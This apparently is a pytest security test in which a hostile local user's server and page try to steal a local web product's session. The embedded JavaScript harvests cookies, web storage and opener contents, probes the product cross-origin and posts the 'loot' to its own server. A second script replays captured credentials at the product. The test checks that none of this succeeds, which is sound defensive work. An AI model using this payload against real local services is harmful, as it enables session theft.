"""Another user of this machine, who serves a page of their own to the browser that has a product's page open.

Their server runs as uid 65534 and writes down everything it is sent; their page, opened by a link in the product's, asks
for all that a page can ask for. What they learn is then tried at the product's port over plain sockets, by the same uid.
"""

import base64
import http.client
import json
import os
import re
import subprocess
from urllib.parse import urlsplit

import pytest
from patience import PATIENCE

needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="needs root, to be another user of this machine")
# By which name the product's page is open, and by which the other user's is: OWN is the product's own random one.
OWN = "OWN"
PLACES = [
    ("random", "127.0.0.1"), ("random", "localhost"), ("random", "x.localhost"), ("random", OWN),
    ("127.0.0.1", "127.0.0.1"), ("127.0.0.1", "localhost"),
]  # fmt: skip
everywhere = pytest.mark.parametrize("opened, place", PLACES, ids=[f"{opened}-{place}" for opened, place in PLACES])
AS_NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--no-new-privs"]

SERVER = r'''
import http.server, json, sys, threading
heard = []

class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def log_message(self, *_): pass
    def answer(self, kind, body, status=200):
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Service-Worker-Allowed", "/")
        self.end_headers()
        self.wfile.write(body)
    def take(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        heard.append({"path": self.path, "headers": list(self.headers.items()), "body": body.decode("utf8", "replace")})
    def do_GET(self):
        if self.path == "/heard":
            return self.answer("application/json", json.dumps(heard).encode())
        self.take()
        if self.path.startswith("/page"):
            return self.answer("text/html", PAGE.encode())
        if self.path.startswith("/worker.js"):
            return self.answer("text/javascript", b"onfetch = () => {}")
        self.answer("text/plain", b"x")
    def do_POST(self):
        self.take()
        self.answer("text/plain", b"x")

PAGE = sys.stdin.read()
server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
print(server.server_address[1], flush=True)
server.serve_forever()
'''

# What a page can read and ask for, at its own place and at each spelling of the product's.
PAGE = """<!doctype html><meta charset="utf-8"><title>A link to follow</title><body><script type="module">
const targets = TARGETS, requests = REQUESTS;
const loot = { cookie: document.cookie, name: window.name, from: document.referrer,
  local: { ...localStorage }, session: { ...sessionStorage } };
const note = (key, value) => (loot[key] = String(value));
try { note("opener", opener.document.body.textContent + JSON.stringify(opener.sessionStorage)); } catch (error) { note("opener", error); }
opener?.postMessage({ wants: true }, "*");
addEventListener("message", ({ data }) => note("message", JSON.stringify(data)));
const asked = [];
const load = (tag, src) => asked.push(new Promise((done) => {
  const element = document.createElement(tag);
  element.onload = element.onerror = done;
  element.src = src;
  document.body.append(element);
}));
// A stream that was open would never end: its first part says enough.
const first = async (reply) => [reply.type, reply.status, new TextDecoder().decode((await reply.body?.getReader().read())?.value)];
load("img", "/own.png");
const spelling = new BroadcastChannel("session");
spelling.onmessage = ({ data }) => note("channel", JSON.stringify(data));
spelling.postMessage({ wants: true });
asked.push(navigator.serviceWorker?.register("/worker.js", { scope: "/" }).catch(() => {}));
for (const target of targets) {
  for (const path of ["/", "/act", "/events?page=x", "/session", "/icon.svg"]) load("img", target + path);
  load("iframe", target + "/");
  load("script", target + "/main.js");
  for (const mode of ["no-cors", "cors"]) {
    for (const [method, path, type, coded] of requests) {
      const body = coded && Uint8Array.from(atob(coded), (letter) => letter.charCodeAt(0));
      const headers = body && mode === "cors" ? { "Content-Type": type } : {};
      asked.push(fetch(target + path, { method, body, mode, headers, credentials: "include" })
        .then(first).then((text) => note([mode, target, method, path, coded], text)).catch(() => {}));
    }
  }
}
await Promise.all(asked);
await fetch("/loot", { method: "POST", body: JSON.stringify(loot) });
document.title = "done";
</script>"""


class ByAddress:
    """A program whose page is opened by the plain address of this machine, not by the name of its run."""

    def __init__(self, program):
        self.program = program

    @property
    def opening(self):
        return re.sub(r"//[^/:]+", "//127.0.0.1", self.program.opening)


def open_as(opened, window, program):
    """The product's page, by the name of its run or by this machine's plain address."""
    page = window.open(program if opened == "random" else ByAddress(program))
    assert (urlsplit(page.url).hostname == "127.0.0.1") == (opened == "127.0.0.1")
    return page


class Stranger:
    """The other user; `page` is the product's, and what they want are its `actions`, and `posts` of (path, type, bytes)."""

    def __init__(self, page, actions, posts=()):
        self.page, host = page, urlsplit(page.url).hostname
        self.port = urlsplit(page.url).port
        names = {host, "127.0.0.1", "localhost", "x.localhost"}
        targets = [f"http://{name}:{self.port}" for name in sorted(names)]
        told = [("/session", "text/plain", b"x" * 22), *posts]
        told += [("/act", "application/json", json.dumps(action).encode()) for action in actions]
        self.requests = [["GET", "/session", None, None], ["GET", "/events?page=x", None, None]]
        self.requests += [["POST", path, kind, base64.b64encode(body).decode()] for path, kind, body in told]
        text = PAGE.replace("TARGETS", json.dumps(targets)).replace("REQUESTS", json.dumps(self.requests))
        self.process = subprocess.Popen([*AS_NOBODY, "/usr/bin/python3", "-c", SERVER], text=True,
                                        stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        self.process.stdin.write(text)
        self.process.stdin.close()
        self.own_port = int(self.process.stdout.readline())
        self.host = host

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.process.terminate()
        self.process.wait(PATIENCE)
        self.process.stdout.close()

    @property
    def heard(self):
        """Everything that the server was sent."""
        connection = http.client.HTTPConnection("127.0.0.1", self.own_port, timeout=PATIENCE)
        connection.request("GET", "/heard")
        return json.loads(connection.getresponse().read())

    def steal(self, place, secret):
        """The product's page leads to theirs at `place`, and they try what they got: nothing of it opens anything.

        `secret` is something that the product's page shows.
        """
        bearer = self.page.evaluate("sessionStorage.getItem('session')")
        assert re.fullmatch(r"[\w-]{20,}", bearer)
        target = f"http://{self.host if place == OWN else place}:{self.own_port}/page"
        with self.page.expect_popup() as popup:
            self.page.evaluate("(target) => void open(target)", target)
        tab = popup.value
        tab.wait_for_function("() => document.title === 'done'")
        heard = self.heard
        assert any(each["path"] == "/loot" for each in heard)
        assert secret not in str(heard), "the page was read"
        assert bearer not in str(heard), "the bearer was read"
        assert self.tries(self.keys(), self.requests) == []
        # With the key that they want the first action would be answered: what was tried does make sense.
        first = [each for each in self.requests if each[1] == "/act"][:1]
        assert len(self.tries([{"Authorization": f"Bearer {bearer}"}], first)) == 3
        tab.close()

    def keys(self):
        """Every value that they were sent and that could open something, as whole headers to send."""
        cookies = {value for each in self.heard for name, value in each["headers"] if name.lower() == "cookie"}
        bearers = {value for each in self.heard for name, value in each["headers"] if name.lower() == "authorization"}
        values = {part.strip().partition("=")[2] for cookie in cookies for part in cookie.split(";")}
        return [{}, *({"Cookie": each} for each in cookies), *({"Authorization": each} for each in bearers),
                *({"Authorization": f"Bearer {each}"} for each in values if each)]

    def tries(self, keys, requests):
        """Tries each key at the product's port, by each of its names; answers what opened anything."""
        names = [f"{name}:{self.port}" for name in ("127.0.0.1", "localhost", self.host)]
        given = json.dumps([self.port, [[key, name] for key in keys for name in names], requests, PATIENCE])
        script = [*AS_NOBODY, "/usr/bin/python3", "-c", TRY]
        return json.loads(subprocess.run(script, input=given, text=True, capture_output=True, check=True).stdout)


TRY = r'''
import base64, http.client, json, sys
port, heads, requests, patience = json.load(sys.stdin)
opened = []
for key, host in heads:
    for method, path, kind, coded in requests:
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=patience)
        headers = {**key, "Host": host, "Origin": "http://" + host, **({"Content-Type": kind} if kind else {})}
        try:
            connection.request(method, path, base64.b64decode(coded) if coded else None, headers)
        except (BrokenPipeError, ConnectionResetError):
            pass  # It is refused by its head; the answer can be there all the same.
        try:
            status = connection.getresponse().status
        except ConnectionError:
            status = 0
        if status == 200: opened.append([method, path, host, sorted(key)])
        connection.close()
print(json.dumps(opened))
'''
